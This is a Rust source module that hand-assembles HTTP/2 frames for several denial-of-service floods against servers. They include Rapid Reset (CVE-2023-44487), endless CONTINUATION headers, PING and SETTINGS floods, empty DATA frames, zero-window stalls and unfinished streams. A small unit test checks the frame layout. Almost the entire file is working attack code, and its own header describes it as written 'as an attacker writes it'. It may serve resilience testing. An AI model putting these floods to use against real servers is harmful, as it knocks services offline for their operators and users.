//! HTTP/2 as an attacker writes it: frames by hand (RFC 9113 §4.1), fields without compression
//! (RFC 7541 §6.2.2).

use std::iter;

/// What a client begins with: the preface, and settings.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// `SETTINGS_INITIAL_WINDOW_SIZE`
const INITIAL_WINDOW: u8 = 4;
/// `CANCEL`
const CANCEL: u32 = 8;

/// Frames that are written at once.
const BURST: u32 = 100;
/// What each unfinished stream sends of its body: 100 of them fill the window that there is at first.
const PART: usize = 600;

/// What is done with a session.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Flood {
    /// Requests, each taken back at once (CVE-2023-44487).
    RapidReset,
    /// A head that goes on in one frame after the other, and never ends.
    Continuation,
    /// Pings, whose answers have to be written.
    Ping,
    /// Settings, which have to be acknowledged.
    Settings,
    /// DATA frames without data, of a request that never ends.
    EmptyData,
    /// A hundred requests for answers that there is no window for.
    ZeroWindow,
    /// A hundred requests with bodies that never end.
    Streams,
}

impl Flood {
    /// What is sent first.
    pub(crate) fn opening(self) -> Vec<u8> {
        let window: &[u8] = if self == Self::ZeroWindow {
            &[0, INITIAL_WINDOW, 0, 0, 0, 0]
        } else {
            &[]
        };
        let mut bytes = [PREFACE, &frame(SETTINGS, 0, 0, window)].concat();
        let streams = (0..BURST).map(|number| 2 * number + 1);
        match self {
            Self::RapidReset | Self::Ping | Self::Settings => {}
            Self::Continuation => bytes.extend(frame(HEADERS, 0, 1, &head("GET", "/none"))),
            Self::EmptyData => bytes.extend(frame(HEADERS, END_HEADERS, 1, &head("POST", "/"))),
            Self::ZeroWindow => bytes.extend(streams.flat_map(|stream| {
                let flags = END_HEADERS | END_STREAM;
                frame(HEADERS, flags, stream, &head("GET", "/none"))
            })),
            Self::Streams => bytes.extend(streams.flat_map(|stream| {
                let head = frame(HEADERS, END_HEADERS, stream, &head("POST", "/"));
                [head, frame(DATA, 0, stream, &[b'x'; PART])].concat()
            })),
        }
        bytes
    }

    /// What follows, again and again; nothing from one who waits.
    pub(crate) fn bursts(self) -> impl Iterator<Item = Vec<u8>> {
        let mut stream = 1;
        iter::from_fn(move || {
            let repeated = |frame: Vec<u8>| Some(frame.repeat(BURST as usize));
            match self {
                Self::RapidReset => {
                    let mut burst = Vec::new();
                    for _ in 0..BURST {
                        let flags = END_HEADERS | END_STREAM;
                        burst.extend(frame(HEADERS, flags, stream, &head("GET", "/none")));
                        burst.extend(frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes()));
                        stream += 2;
                    }
                    Some(burst)
                }
                Self::Continuation => repeated(frame(CONTINUATION, 0, 1, &field("x-a", "b"))),
                Self::Ping => repeated(frame(PING, 0, 0, &[0; 8])),
                Self::Settings => repeated(frame(SETTINGS, 0, 0, &[])),
                Self::EmptyData => repeated(frame(DATA, 0, 1, &[])),
                Self::ZeroWindow | Self::Streams => None,
            }
        })
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX);
    let mut bytes = length.to_be_bytes()[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// The fields of a request.
fn head(method: &str, path: &str) -> Vec<u8> {
    [
        field(":method", method),
        field(":scheme", "https"),
        field(":authority", "abc"),
        field(":path", path),
    ]
    .concat()
}

/// A literal field, which is short, with a name of its own.
fn field(name: &str, value: &str) -> Vec<u8> {
    let text = |text: &str| {
        let length = u8::try_from(text.len()).unwrap_or(u8::MAX);
        iter::once(length).chain(text.bytes()).collect::<Vec<_>>()
    };
    [vec![0], text(name), text(value)].concat()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Type and stream of each frame.
    fn frames(mut bytes: &[u8]) -> Vec<(u8, u32)> {
        let mut found = Vec::new();
        while let [a, b, c, kind, _, s1, s2, s3, s4, rest @ ..] = bytes {
            found.push((*kind, u32::from_be_bytes([*s1, *s2, *s3, *s4])));
            let length = u32::from_be_bytes([0, *a, *b, *c]);
            bytes = &rest[length as usize..];
        }
        assert!(bytes.is_empty());
        found
    }

    #[test]
    fn what_is_sent_is_frames() {
        let opening = Flood::Streams.opening();
        let opened = frames(opening.strip_prefix(PREFACE).unwrap());
        assert_eq!(opened.len(), 1 + 200);
        assert_eq!(opened[..3], [(SETTINGS, 0), (HEADERS, 1), (DATA, 1)]);
        let mut bursts = Flood::RapidReset.bursts();
        assert_eq!(
            frames(&bursts.next().unwrap())[..2],
            [(HEADERS, 1), (RST_STREAM, 1)]
        );
        assert_eq!(frames(&bursts.next().unwrap())[0], (HEADERS, 201));
        assert!(Flood::ZeroWindow.bursts().next().is_none());
    }
}
